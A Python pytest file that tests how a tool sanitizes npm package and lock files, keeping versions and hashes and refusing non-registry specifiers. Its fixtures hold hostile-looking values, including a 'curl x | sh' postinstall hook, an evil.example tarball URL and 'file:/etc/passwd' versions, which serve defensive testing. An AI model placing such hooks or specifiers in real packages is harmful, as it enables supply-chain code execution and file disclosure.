"""A lock is written anew: names, versions and hashes stay, addresses and scripts do not."""

import json
from collections.abc import Mapping
from typing import Any

import pytest

from jobtwin.core.check import Reason
from jobtwin.source.tree import MemoryTree
from jobtwin.verification.dependencies.failure import DependencyFailure
from jobtwin.verification.npm.manifest import FrontEnd, clean_lock, find_front_ends
from jobtwin.verification.npm.run import linked

HASH = "sha512-" + "a" * 86 + "=="
PACKAGE: dict[str, Any] = {
    "name": "desk",
    "scripts": {"test": "node test.js", "build": "vite build", "postinstall": "curl x | sh"},
    "dependencies": {"kite": "^1.0.0", "old-kite": "npm:kite@0.9.0", "@scope/kite": "1.x || >=2"},
}
LOCK: dict[str, Any] = {
    "lockfileVersion": 3,
    "packages": {
        "": {"name": "desk", "scripts": {"postinstall": "curl x | sh"}},
        "node_modules/kite": {
            "version": "1.0.1",
            "resolved": "https://evil.example/kite.tgz",
            "integrity": HASH,
            "hasInstallScript": True,
        },
        "node_modules/@scope/kite/node_modules/kite": {"version": "2.0.0", "integrity": HASH, "dev": True},
    },
}


MANY: dict[str, object] = {f"node_modules/kite{number}": {} for number in range(3001)}


def tree(files: Mapping[str, object]) -> MemoryTree:
    return MemoryTree(
        {path: one if isinstance(one, bytes) else json.dumps(one).encode() for path, one in files.items()}
    )


def front(package: object = PACKAGE, lock: object = LOCK) -> FrontEnd:
    (found,) = find_front_ends(tree({"web/package.json": package, "web/package-lock.json": lock}), "")
    return found


def refused(package: object = PACKAGE, lock: object = LOCK) -> tuple[Reason, str]:
    with pytest.raises(DependencyFailure) as caught:
        clean_lock(front(package, lock))
    return caught.value.reason, caught.value.summary


def test_addresses_and_scripts_are_left_out_and_versions_and_hashes_stay() -> None:
    clean = clean_lock(front())

    assert clean.packages == 2
    assert "evil.example" not in clean.lock
    assert "curl" not in clean.lock + clean.package
    kept = json.loads(clean.lock)["packages"]
    assert kept["node_modules/kite"] == {"version": "1.0.1", "integrity": HASH}
    assert kept[""]["dependencies"] == PACKAGE["dependencies"]


def test_front_ends_are_found_at_and_below_the_project_alone() -> None:
    files = {
        "package.json": {"scripts": {"lint": "x"}},
        "app/web/package.json": PACKAGE,
        "app/web/node_modules/kite/package.json": PACKAGE,
        "app/ui/package.json": {"scripts": {"test": 'echo "Error: no test specified" && exit 1'}},
        "other/package.json": PACKAGE,
        "app/broken/package.json": b"{",
    }

    assert [one.folder for one in find_front_ends(tree(files), "app")] == ["app/web"]
    assert [one.folder for one in find_front_ends(tree(files), "")] == ["other", "app/web"]
    assert find_front_ends(tree(files), "app")[0].scripts == ("test", "build")


@pytest.mark.parametrize(
    "wanted",
    [
        "file:../evil", "git+https://x/y.git", "https://x/y.tgz", "ada/kite", "github:ada/kite", "link:../x",
        "workspace:*", "npm:../x", "../x", 3, None,
    ],
)  # fmt: skip
def test_what_is_no_version_of_the_registry_is_refused(wanted: object) -> None:
    reason, said = refused({**PACKAGE, "dependencies": {"kite": wanted}})

    assert reason is Reason.BAD_REQUIREMENT
    assert said.startswith("web/package.json: kite ")


@pytest.mark.parametrize(
    ("place", "entry"),
    [
        ("node_modules/kite", {"version": "1"}),
        ("node_modules/kite", {"version": "1", "integrity": "md5-x"}),
        ("node_modules/kite", {"link": True, "resolved": "../x", "integrity": HASH}),
        ("../kite", {"version": "1", "integrity": HASH}),
        ("packages/kite", {"version": "1", "integrity": HASH}),
        ("node_modules/../kite", {"version": "1", "integrity": HASH}),
        ("node_modules/kite", "1.0"),
    ],
)
def test_a_package_without_hash_or_place_is_refused(place: str, entry: object) -> None:
    assert refused(lock={"lockfileVersion": 3, "packages": {place: entry}})[0] is Reason.BAD_REQUIREMENT


PLACES = (
    "http://10.0.0.1/x.tgz",
    "git+http://10.0.0.1/x",
    "git+file:///etc",
    "file:/etc",
    ".",
    "..",
    "x.TGZ",
    "~/x",
)
"""What npm asks, clones or reads where it stands in the place of a version."""


@pytest.mark.parametrize("place", PLACES)
@pytest.mark.parametrize(
    "group", ["dependencies", "devDependencies", "optionalDependencies", "peerDependencies"]
)
def test_a_lock_leads_npm_to_no_place_by_what_its_packages_depend_on(group: str, place: str) -> None:
    entry = {"version": "1.0.0", "integrity": HASH, group: {"tail": place}}
    reason, said = refused(lock={"lockfileVersion": 3, "packages": {"node_modules/kite": entry}})

    assert reason is Reason.BAD_REQUIREMENT
    assert "tail is no version of the registry" in said


@pytest.mark.parametrize("place", PLACES)
def test_overrides_lead_npm_to_no_place(place: str) -> None:
    for overrides in ({"tail": place}, {"kite@1": {"tail": place}}, {f"kite@{place}": "1"}, {"../kite": "1"}):
        assert refused({**PACKAGE, "overrides": overrides})[0] is Reason.BAD_REQUIREMENT


@pytest.mark.parametrize(
    "entry",
    [
        {"name": "http://10.0.0.1/x"},
        {"name": "../../x"},
        {"version": "file:/etc/passwd"},
        {"version": "http://10.0.0.1/x.tgz"},
        {"version": None},
    ],
)
def test_a_lock_leads_npm_to_no_place_by_name_or_version(entry: Mapping[str, object]) -> None:
    whole = {"version": "1.0.0", "integrity": HASH, **entry}
    lock = {"lockfileVersion": 3, "packages": {"node_modules/kite": whole}}
    assert refused(lock=lock)[0] is Reason.BAD_REQUIREMENT


def test_what_says_that_it_came_in_a_bundle_has_a_bundle_around_it() -> None:
    loose = {"node_modules/kite": {"version": "1.0.0", "inBundle": True}}
    assert refused(lock={"lockfileVersion": 3, "packages": loose})[1].endswith("has no hash (integrity)")


def test_overrides_and_ranges_as_people_write_them_are_kept() -> None:
    overrides = {
        "kite": "$kite",
        "@scope/kite@^1": {".": "2.0.0-rc.1", "tail": "npm:@other/tail@>=1 <3 || 4 - 5"},
    }
    entry = {
        "version": "1.0.0-rc.1+build",
        "integrity": HASH,
        "peerDependencies": {"tail": ">= 1.0.0 || ~2.x", "wing": "*", "beak": "", "claw": "next"},
    }
    lock = {"lockfileVersion": 2, "packages": {"node_modules/@scope/kite": entry}}
    clean = clean_lock(front({**PACKAGE, "overrides": overrides}, lock))

    assert json.loads(clean.package)["overrides"] == overrides
    assert json.loads(clean.lock)["packages"]["node_modules/@scope/kite"] == entry


@pytest.mark.parametrize(
    ("package", "lock", "reason"),
    [
        (PACKAGE, b"{", Reason.UNRESOLVABLE_STATICALLY),
        (PACKAGE, {"lockfileVersion": 1, "dependencies": {}}, Reason.UNRESOLVABLE_STATICALLY),
        (PACKAGE, {"lockfileVersion": {}, "packages": {}}, Reason.UNRESOLVABLE_STATICALLY),
        ({**PACKAGE, "workspaces": ["a"]}, LOCK, Reason.NOT_SUPPORTED),
        (PACKAGE, {"lockfileVersion": 3, "packages": MANY}, Reason.NOT_SUPPORTED),
    ],
)  # fmt: skip
def test_what_is_not_followed_says_so(package: object, lock: object, reason: Reason) -> None:
    assert refused(package, lock)[0] is reason


def test_a_missing_lock_says_what_to_do() -> None:
    (found,) = find_front_ends(tree({"package.json": PACKAGE}), "")

    with pytest.raises(DependencyFailure, match="commit the one that npm writes"):
        clean_lock(found)


def test_packages_are_linked_into_a_folder_that_tools_can_write(tmp_path: Any) -> None:
    for name in ("kite", "@scope", ".bin"):
        (tmp_path / "layer" / name).mkdir(parents=True)

    made = linked(tmp_path / "layer", tmp_path / "links", "web")

    assert sorted(one.name for one in (made / "web" / "node_modules").iterdir()) == [".bin", "@scope", "kite"]
    assert str((made / "web" / "node_modules" / "kite").readlink()) == "/node/node_modules/kite"
